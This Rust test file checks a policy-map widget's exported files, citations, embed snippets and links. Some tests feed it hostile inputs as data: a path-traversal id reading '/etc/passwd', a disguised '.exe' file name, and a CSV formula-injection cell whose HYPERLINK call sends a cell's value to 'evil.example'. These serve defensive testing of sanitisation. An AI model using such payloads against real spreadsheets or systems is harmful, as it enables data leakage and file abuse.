//! The files that a reader takes away: they say what is shown, cell by cell, and harm no spreadsheet.

use crate::common;

use common::files::{held, made, table, tell, text, widget};
use common::naive::Naive;
use common::whole::{whole, with};
use common::widget::{choose, host, say};
use common::{FEEDS, date, document};
use policy_explorer::citation::Format;
use policy_explorer::csv::{Csv, harmed};
use policy_explorer::model::field::Field;
use policy_explorer::model::share::{File, Link, Offer, ShareAct};
use policy_explorer::model::take::texts;
use policy_explorer::model::{Effect, Model, Msg};
use proptest::prelude::*;
use serde_json::{Value, json};

const DATES: [&str; 6] = ["1955", "2009-06", "2014", "2020-02-29", "2026-11-24", "2031"];

#[test]
fn tables_of_what_is_shown_say_what_the_second_resolver_says() {
    for name in FEEDS {
        let document = document(name);
        let naive = Naive::new(&document);
        let mut model = widget(&document);
        for (date, known) in
            DATES.iter().flat_map(|date| ["", "2026-11-23", "2026-11"].map(|known| (*date, known)))
        {
            say(&mut model, choose(Field::Date, date));
            say(&mut model, choose(Field::Known, known));
            let shown: Value = serde_json::from_str(&text(&model, File::Json)).expect("it is JSON");
            let codes = held(&naive, &text(&model, File::Csv), &shown, (date, known));
            let is_member =
                |code: &&&str| naive.status(code, naive.measures[0], date, known) != "not-a-member";
            assert_eq!(
                codes.len(),
                naive.members.iter().filter(is_member).count(),
                "{name}, {date}, {known}"
            );
            let counts = naive.counts("overall", (date, known), &[], &[]);
            for (status, count) in shown["counts"].as_object().expect("an object") {
                assert_eq!(count, &json!(counts.get(status).copied().unwrap_or_default()), "{status}");
            }
        }
    }
}

#[test]
fn tables_keep_the_filters_and_the_order_of_what_is_shown() {
    let mut model = widget(&document("demo"));
    let region = document("demo")["regions"][0]["id"].as_str().expect("an id").to_owned();
    say(&mut model, choose(Field::Region, &region));
    say(&mut model, choose(Field::Sort, "-country"));
    let (_, rows) = table(&text(&model, File::Csv));
    let shown = model.shown.as_ref().expect("it is shown");
    let expected: Vec<String> = shown
        .table(model.messages.as_ref().expect("a language"))
        .rows
        .iter()
        .map(|row| row.code.to_string())
        .collect();
    assert!(expected.len() > 10 && expected.len() < 100);
    assert_eq!(rows.iter().map(|row| row["country"].clone()).collect::<Vec<_>>(), expected);
}

#[test]
fn every_claim_is_listed_with_each_of_its_sources() {
    for name in FEEDS {
        let document = document(name);
        let (_, rows) = table(&text(&widget(&document), File::Claims));
        let mut expected: Vec<(String, String, String, String)> = Vec::new();
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        for record in document["records"].as_array().expect("records") {
            let evidence = record["evidence"].as_array().cloned().unwrap_or_default();
            let urls: Vec<String> = evidence.iter().map(|source| text(&source["url"])).collect();
            let urls = if urls.is_empty() { vec![String::new()] } else { urls };
            let claim =
                |url| (text(&record["country"]), text(&record["measure"]), text(&record["date"]), url);
            expected.extend(urls.into_iter().map(claim));
        }
        let mut found: Vec<_> = rows
            .iter()
            .map(|row| ["country", "measure", "date", "source"].map(|name| row[name].clone()))
            .map(|[country, measure, date, source]| (country, measure, date, source))
            .collect();
        expected.sort();
        found.sort();
        assert_eq!(found, expected, "{name}");
    }
}

#[test]
fn a_withdrawn_claim_is_listed_with_its_reason_and_the_answers() {
    let (_, rows) = table(&text(&widget(&whole()), File::Claims));
    let withdrawn = rows.iter().find(|row| row["withdrawn"] == "2020").expect("it is among them");
    assert_eq!(withdrawn["correction"], "C");
    assert_eq!(withdrawn["responses"], "B (2021): T https://example.org/\nU");
}

#[test]
fn every_file_says_whose_it_is_of_when_and_under_which_terms() {
    for (demo, said) in [(json!(false), false), (json!(true), true)] {
        let mut model = widget(&with(&[("/demo", demo)]));
        say(&mut model, choose(Field::Date, "2016"));
        say(&mut model, choose(Field::Known, "2026-11"));
        let kit = made(&model, File::Kit).files;
        // The feed says it itself, and the page shows the feed.
        let apart = ["alt.txt", "map.png", "feed.json", "page.html"];
        let kit = kit.iter().filter(|item| !apart.contains(&&*item.name));
        let files = [File::Csv, File::Json, File::Claims, File::Svg].map(|file| text(&model, file));
        for text in kit.map(|item| item.text.clone()).chain(files) {
            // The picture's lines may be broken anywhere.
            let words: String = text.split_whitespace().collect();
            for needed in ["A", "CC BY 4.0", "20 November 2026", "2016"] {
                let needed: String = needed.split_whitespace().collect();
                assert!(words.contains(&needed) || words.contains("2026-11-20"), "{needed} in {text}");
            }
            assert_eq!(text.contains("Demonstration"), said, "{text}");
        }
        assert_eq!(made(&model, File::Png).files[0].alt.contains("Demonstration"), said);
    }
}

#[test]
fn the_press_kit_has_everything() {
    let kit = made(&widget(&document("hanoi-2011")), File::Kit);
    let names: Vec<&str> = kit.files.iter().map(|item| item.name.as_str()).collect();
    let expected = [
        "map.svg",
        "map.png",
        "data.csv",
        "claims.csv",
        "sources.txt",
        "alt.txt",
        "citation.txt",
        "citation.bib",
        "citation.ris",
        "citation.json",
        "LICENSE.txt",
        "feed.json",
        "page.html",
    ];
    assert_eq!(names, expected);
    let [feed, page] = [11, 12].map(|at| kit.files[at].text.as_str());
    assert_eq!(feed, "https://cdn.example/widget/feed.json");
    assert!(page.starts_with("<!doctype html>") && page.contains("<title>Promoting"), "{page}");
    assert!(page.contains("<policy-explorer feed=\"feed.json\" lang=\"en\" integrity=\"sha256-"), "{page}");
    assert!(kit.files.iter().all(|item| item.text.len() > 20));
    let sources = &kit.files[4].text;
    assert!(sources.contains("\nFrance: implemented, by 21 March 2007\n- "), "{sources}");
}

#[test]
fn files_are_named_for_what_they_hold() {
    let mut model = widget(&whole());
    say(&mut model, choose(Field::Measure, "m"));
    let name = |model: &Model, file| made(model, file).name;
    assert_eq!(name(&model, File::Csv), "policy-explorer-m-2026-11-24.csv");
    assert_eq!(name(&model, File::Claims), "policy-explorer-claims-2026-11-20.csv");
    say(&mut model, choose(Field::Date, "2016-03"));
    say(&mut model, choose(Field::Known, "2020"));
    assert_eq!(name(&model, File::Png), "policy-explorer-m-2016-03-known-2020.png");
    assert_eq!(name(&model, File::Kit), "policy-explorer-m-2016-03-known-2020.zip");
}

#[test]
fn a_hostile_id_names_no_file_that_a_system_refuses() {
    let long = "m".repeat(200);
    for (id, expected) in [
        ("../../etc/passwd", "policy-explorer-etcpasswd-2026-11-24.csv"),
        ("con", "policy-explorer-con-2026-11-24.csv"),
        ("a:b*c?\u{202e}vsc.exe", "policy-explorer-abcvscexe-2026-11-24.csv"),
        ("мера", "policy-explorer-measure-1-2026-11-24.csv"),
        (long.as_str(), &format!("policy-explorer-{}-2026-11-24.csv", "m".repeat(60))),
    ] {
        let document =
            with(&[("/measures/0/id", json!(id)), ("/records", json!([])), ("/reported", json!([]))]);
        let mut model = widget(&document);
        say(&mut model, host(Field::Measure, id));
        assert_eq!(made(&model, File::Csv).name, expected);
    }
}

/// What an SVG says of an attribute, each time.
fn values<'a>(svg: &'a str, before: &str) -> Vec<&'a str> {
    svg.split(before).skip(1).map(|after| after.split(['"', ')', ' ']).next().expect("an end")).collect()
}

#[test]
fn each_picture_has_ids_of_its_own_and_the_same_picture_the_same() {
    let mut model = widget(&whole());
    let mut seen: Vec<String> = Vec::new();
    for (field, value) in [
        (Field::Measure, "m"),
        (Field::Measure, "n"),
        (Field::Date, "2016"),
        (Field::Projection, "equal-earth"),
    ] {
        say(&mut model, choose(field, value));
        let svg = text(&model, File::Svg);
        assert_eq!(svg, text(&model, File::Svg));
        let ids = values(&svg, " id=\"");
        assert!(ids.len() >= 3 && ids.iter().all(|id| id.starts_with("pe-")), "{ids:?}");
        let used = values(&svg, "url(#")
            .into_iter()
            .chain(values(&svg, "aria-labelledby=\""))
            .chain(values(&svg, "aria-describedby=\""));
        assert!(used.clone().count() > 3 && used.clone().all(|id| ids.contains(&id)), "{ids:?}");
        if field != Field::Projection {
            assert!(ids.iter().all(|id| !seen.iter().any(|other| other == id)), "{ids:?} {seen:?}");
        }
        seen.extend(ids.into_iter().map(str::to_owned));
        assert!(
            svg.matches("url(#").count() == svg.matches(") #e8e9e9\"").count(),
            "a colour stands behind each pattern"
        );
    }
}

#[test]
fn texts_of_a_picture_are_in_their_place_whether_a_program_knows_directions_or_not() {
    for (tag, anchor) in [("en", "start"), ("ar", "end")] {
        let mut model = widget(&whole());
        say(&mut model, Msg::Language(common::messages(tag)));
        let svg = text(&model, File::Svg);
        assert_eq!(values(&svg, " direction=\""), ["ltr"], "the page around it may run the other way");
        let anchors = values(&svg, "text-anchor=\"");
        assert_eq!(anchors.len(), svg.matches("<text ").count());
        assert!(anchors.iter().all(|found| *found == anchor), "{tag}: {anchors:?}");
        let marked = svg.matches(">\u{2067}").count();
        assert_eq!(marked, if tag == "ar" { anchors.len() } else { 0 });
    }
}

#[test]
fn the_alternative_text_says_sentence_counts_and_notes() {
    let mut model = widget(&document("hanoi-2011"));
    say(&mut model, choose(Field::Measure, "icse-access"));
    let alt = made(&model, File::Png).files[0].alt.clone();
    for part in ["26 of 196 members", "implemented (26)", "no public data (169)", "does not mean"] {
        assert!(alt.contains(part), "{part} in {alt}");
    }
    assert!(!alt.contains('\n'));
}

/// The lines of the panel Embed.
fn snippet(model: &Model) -> String {
    let (shown, messages) =
        (model.shown.as_ref().expect("shown"), model.messages.as_ref().expect("a language"));
    texts(shown, messages, &model.share).snippet.expect("the page has told where it is")
}

#[test]
fn a_snippet_shows_the_same_view_and_can_be_frozen() {
    let mut model = widget(&document("hanoi-2011"));
    say(&mut model, choose(Field::Date, "2020"));
    say(&mut model, choose(Field::Find, "\"<a & b>"));
    let lines = "<script type=\"module\" src=\"https://cdn.example/widget/policy-explorer.js\"></script>\n\
                 <policy-explorer feed=\"https://cdn.example/widget/feed.json\" lang=\"en\" date=\"2020\" \
                 find=\"&quot;&lt;a &amp; b&gt;\"";
    assert_eq!(snippet(&model), format!("{lines}></policy-explorer>\n"));
    say(&mut model, Msg::Share(ShareAct::Freeze));
    assert_eq!(snippet(&model), format!("{lines} integrity=\"sha256-AP8=\"></policy-explorer>\n"));
}

#[test]
fn a_frozen_snippet_takes_the_version_that_the_publisher_keeps() {
    let mut feed = document("hanoi-2011");
    feed["versions"] = json!("/kept/{digest}.json");
    let mut model = widget(&feed);
    let address = |model: &Model| {
        let snippet = snippet(model);
        let (_, rest) = snippet.split_once("feed=\"").expect("there is a feed");
        rest.split_once('"').expect("the address ends").0.to_owned()
    };
    assert_eq!(
        address(&model),
        "https://cdn.example/widget/feed.json",
        "what is not frozen follows the feed"
    );
    say(&mut model, Msg::Share(ShareAct::Freeze));
    let kept = "https://cdn.example/kept/00ff.json";
    assert_eq!(address(&model), kept);
    // What shows a version already stays with it.
    let told = format!("https://a.example/\nhttps://cdn.example/w.js\n{kept}\n\n00ff\nsha256-AP8=");
    say(&mut model, Msg::Tell(told.into()));
    assert_eq!(address(&model), kept);
}

#[test]
fn a_snippet_has_the_publisher_s_picture_of_the_same_alone() {
    let mut feed = document("hanoi-2011");
    feed["pictures"] = json!("pictures/{measure}-{lang}.svg");
    let mut model = widget(&feed);
    let title = feed["policy"]["title"]["en"].as_str().expect("a title");
    let whole = snippet(&model);
    let picture = format!(
        " style=\"display: block; min-height: 760px\">\n  \
         <img src=\"https://cdn.example/widget/pictures/overall-en.svg\" alt=\"{title}\" style=\"max-width: 100%\">\n\
         </policy-explorer>\n"
    );
    assert!(whole.ends_with(&picture), "{whole}");
    say(&mut model, choose(Field::Measure, "icse-access"));
    let of_measure = snippet(&model);
    let named = format!("icse-access-en.svg\" alt=\"{title}: ICSE access");
    assert!(of_measure.contains(&named), "{of_measure}");
    // Of another day, or of bytes that do not change, there is none.
    say(&mut model, Msg::Share(ShareAct::Freeze));
    assert!(!snippet(&model).contains("<img"));
    say(&mut model, Msg::Share(ShareAct::Freeze));
    say(&mut model, choose(Field::Date, "2020"));
    assert!(!snippet(&model).contains("<img"));
}

#[test]
fn a_citation_needs_no_digest() {
    let mut model = widget(&whole());
    say(&mut model, tell(""));
    let (shown, messages) =
        (model.shown.as_ref().expect("shown"), model.messages.as_ref().expect("a language"));
    for (_, text) in texts(shown, messages, &model.share).citation {
        assert!(!text.contains("SHA"), "{text}");
    }
}

#[test]
fn a_link_is_the_page_that_keeps_the_view_or_a_page_of_its_own() {
    let mut model = widget(&document("hanoi-2011"));
    say(&mut model, host(Field::Region, "africa"));
    say(&mut model, choose(Field::Region, ""));
    say(&mut model, choose(Field::Measure, "icse-access"));
    say(&mut model, choose(Field::Find, "é&=,"));
    let link = |model: &Model| {
        let (shown, messages) =
            (model.shown.as_ref().expect("shown"), model.messages.as_ref().expect("a language"));
        texts(shown, messages, &model.share).link.expect("the page has told where it is")
    };
    let facts = |page: &str, feed: &str, key: &str| {
        Msg::Tell(format!("{page}\nhttps://cdn.example/w/policy-explorer.js?v=1\n{feed}\n{key}").into())
    };
    for (page, feed, key, expected) in [
        ("https://a.example/#", "https://d.example/f.json", "map", Link::View(
            "https://a.example/#map=measure:icse-access,region:,find:%C3%A9%26%3D%2C".to_owned(),
        )),
        ("https://a.example/#x&", "https://d.example/f.json", "map", Link::View(
            "https://a.example/#x&map=measure:icse-access,region:,find:%C3%A9%26%3D%2C".to_owned(),
        )),
        ("https://a.example/#x", "https://d.example/f.json", "", Link::Page("https://a.example/#x".to_owned())),
        ("https://a.example/", "https://cdn.example/w/feed.json", "", Link::Frame(
            "https://cdn.example/w/embed.html?lang=en&measure=icse-access&find=%C3%A9%26%3D%2C".to_owned(),
        )),
        ("https://a.example/", "https://cdn.example/x y.json", "", Link::Frame(
            "https://cdn.example/w/embed.html?lang=en&feed=https%3A%2F%2Fcdn.example%2Fx+y.json&measure=icse-access\
             &find=%C3%A9%26%3D%2C".to_owned(),
        )),
    ] {
        say(&mut model, facts(page, feed, key));
        assert_eq!(link(&model), expected);
    }
}

#[test]
fn a_citation_goes_on_showing_what_was_seen() {
    let mut model = widget(&document("hanoi-2011"));
    let plain = |model: &Model| {
        let (shown, messages) =
            (model.shown.as_ref().expect("shown"), model.messages.as_ref().expect("a language"));
        let [(Format::Plain, text), ..] = texts(shown, messages, &model.share).citation else {
            panic!("sentences come first")
        };
        text
    };
    assert!(
        plain(&model).ends_with("embed.html?lang=en&date=2026-11-24&known=2026-11-28"),
        "{}",
        plain(&model)
    );
    say(&mut model, choose(Field::Date, "2020"));
    say(&mut model, choose(Field::Known, "2027"));
    assert!(plain(&model).ends_with("embed.html?lang=en&date=2020&known=2027"), "{}", plain(&model));
    // West of the publisher it is still the day before.
    say(&mut model, choose(Field::Known, ""));
    say(&mut model, Msg::Today(date("2026-11-23")));
    say(&mut model, Msg::Share(ShareAct::Open(Offer::Cite)));
    assert!(plain(&model).ends_with("embed.html?lang=en&date=2020&known=2026-11-28"), "{}", plain(&model));
}

#[test]
fn the_focus_goes_into_the_panel_and_back_to_its_button() {
    use policy_explorer::model::Target;
    use policy_explorer::model::chunk::Chunk;
    let mut model = Model::new(date("2026-11-24"), 960.0);
    let open = || Msg::Share(ShareAct::Open(Offer::Cite));
    assert_eq!(say(&mut model, open()), [Effect::Tell, Effect::Fetch(Chunk::Share)]);
    assert_eq!(say(&mut model, Msg::Arrived(Chunk::Share)), [Effect::Focus(Target::Share)]);
    assert_eq!(say(&mut model, Msg::Share(ShareAct::Close)), [Effect::Focus(Target::Offer(Offer::Cite))]);
    assert_eq!(say(&mut model, open()), [Effect::Tell, Effect::Focus(Target::Share)]);
    assert_eq!(
        say(&mut model, open()),
        [Effect::Focus(Target::Offer(Offer::Cite))],
        "a second press closes it"
    );
    assert_eq!(model.share.open, None);
}

/// What a spreadsheet must not run.
fn is_dangerous(cell: &str) -> bool {
    cell.trim_start_matches(['"', ' ', '\u{a0}']).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// Where some program or other begins a new cell.
const PARTING: [char; 4] = [';', '\t', '\r', '\n'];

#[test]
fn nothing_in_a_table_is_run_wherever_a_program_parts_it() {
    let note = "x;=HYPERLINK(\"http://evil.example/\"&A1;\"open\")\ty\t@SUM(1)\nz\n-1; +2;\"=3";
    let evidence = json!([{"url": "https://example.org/?a;=1+1", "title": "a;=1+1"}]);
    let document = with(&[
        ("/records/0/note", json!(note)),
        ("/records/0/evidence", evidence),
        ("/publisher/name", json!("P;=1+1")),
        ("/measures/0/title", json!("M;=1+1")),
    ]);
    let model = widget(&document);
    for file in [File::Claims, File::Csv] {
        let text = text(&model, file);
        let found: Vec<_> = text.split(PARTING).filter(|cell| is_dangerous(cell)).collect();
        assert_eq!(found, [""; 0]);
    }
    let (_, rows) = table(&text(&model, File::Claims));
    assert!(
        rows.iter().any(|row| row["source.title"] == "a;'=1+1"),
        "and it is read as it was, but for the apostrophe"
    );
}

/// Cells of the signs that matter, and any others.
fn cell() -> impl Strategy<Value = String> {
    let signs =
        prop::sample::select(vec!['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', '\'', 'a', 'é', '＝']);
    prop_oneof![
        prop::collection::vec(signs, 0..6).prop_map(|letters| letters.into_iter().collect()),
        any::<String>(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn csv_is_read_back_as_it_was_written_and_runs_nothing(
        rows in prop::collection::vec(prop::collection::vec(cell(), 3), 1..5)
    ) {
        let mut document = Csv::new(3);
        for row in &rows {
            document.row(&row.iter().map(String::as_str).collect::<Vec<_>>());
        }
        let text = document.finish();
        let text = text.strip_prefix('\u{feff}').expect("the mark");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let read: Vec<Vec<String>> =
            reader.deserialize().map(|row| row.expect("rows of one length")).collect();
        let back: Vec<Vec<String>> =
            read.iter().map(|row| row.iter().map(|cell| harmed(cell)).collect()).collect();
        prop_assert!(read.iter().flatten().all(|cell| !is_dangerous(cell)));
        prop_assert!(text.split(PARTING).all(|cell| !is_dangerous(cell)), "{}", text);
        prop_assert_eq!(back, rows);
    }
}
